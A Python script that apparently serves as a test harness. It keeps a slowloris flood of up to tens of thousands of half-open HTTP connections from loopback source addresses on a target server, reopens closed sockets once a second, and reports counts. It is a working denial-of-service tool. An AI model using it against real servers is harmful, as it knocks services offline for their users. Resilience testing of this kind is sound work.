"""Keeps a slowloris flood on an HTTP server: N sockets from 100 loopback source addresses, each
having sent half a request head; what the server closes is reopened once a second, as slowloris
tools do.

    slowloris.py HOST:PORT [--sockets N]

Prints `flooding N` once N sockets are open, then keeps them open (reopening what the server
closed, once a second) until stdin closes; then prints one JSON object: sockets opened in all, and how many the
server closed. Run as its own process, so that the flood does not share a core's interpreter with
the clients it is measured against. A process holds at most PER_PROCESS sockets (its open-file
limit may not be raised): a larger flood is spread over processes of this script.
"""

import argparse
import json
import resource
import selectors
import socket
import subprocess
import sys
import threading
import time

HALF_A_HEAD = b"POST /mcp HTTP/1.1\r\nHost: x\r\n"

#: Sockets one process holds at most.
PER_PROCESS = 9000


def open_one(target, index):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind((f"127.0.1.{index % 100 + 1}", 0))
    sock.setblocking(False)
    sock.connect_ex(target)
    return sock


def spread(args):
    """Floods with processes of PER_PROCESS sockets at most, and sums what they say."""
    shares = [PER_PROCESS] * (args.sockets // PER_PROCESS)
    if args.sockets % PER_PROCESS:
        shares.append(args.sockets % PER_PROCESS)
    workers = [
        subprocess.Popen(
            [sys.executable, __file__, args.target, "--sockets", str(share)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
        )
        for share in shares
    ]
    for worker in workers:
        said = worker.stdout.readline()
        if not said.startswith("flooding"):
            raise SystemExit(f"slowloris: a worker did not start: {said!r}")
    print(f"flooding {args.sockets}", flush=True)
    sys.stdin.read()
    totals = {"sockets": args.sockets, "opened": 0, "closed_by_server": 0}
    for worker in workers:
        worker.stdin.close()
        said = json.loads(worker.stdout.readline())
        worker.wait()
        totals["opened"] += said["opened"]
        totals["closed_by_server"] += said["closed_by_server"]
    print(json.dumps(totals), flush=True)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("target")
    parser.add_argument("--sockets", type=int, default=20000)
    args = parser.parse_args()
    if args.sockets > PER_PROCESS:
        spread(args)
        return
    host, port = args.target.rsplit(":", 1)
    target = (host, int(port))
    wanted = args.sockets + 512
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))
    selector = selectors.DefaultSelector()
    opened = 0

    def add(index):
        nonlocal opened
        sock = open_one(target, index)
        opened += 1
        # Writable once connected: then it sends half a head; readable once the server closes.
        selector.register(sock, selectors.EVENT_WRITE, index)

    for index in range(args.sockets):
        add(index)
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    announced = False
    closed = 0
    to_reopen = []
    next_reopen = time.monotonic() + 1.0
    while not stop.is_set():
        if time.monotonic() >= next_reopen:
            for index in to_reopen:
                add(index)
            to_reopen.clear()
            next_reopen = time.monotonic() + 1.0
        for key, events in selector.select(timeout=0.2):
            sock, index = key.fileobj, key.data
            if events & selectors.EVENT_WRITE:
                try:
                    sock.send(HALF_A_HEAD)
                    selector.modify(sock, selectors.EVENT_READ, index)
                    continue
                except OSError:
                    pass
            # Readable (the server closed it or answered) or failed: reopened within a second.
            selector.unregister(sock)
            sock.close()
            closed += 1
            to_reopen.append(index)
        if not announced:
            print(f"flooding {args.sockets}", flush=True)
            announced = True
    print(json.dumps({"sockets": args.sockets, "opened": opened, "closed_by_server": closed}), flush=True)


if __name__ == "__main__":
    main()
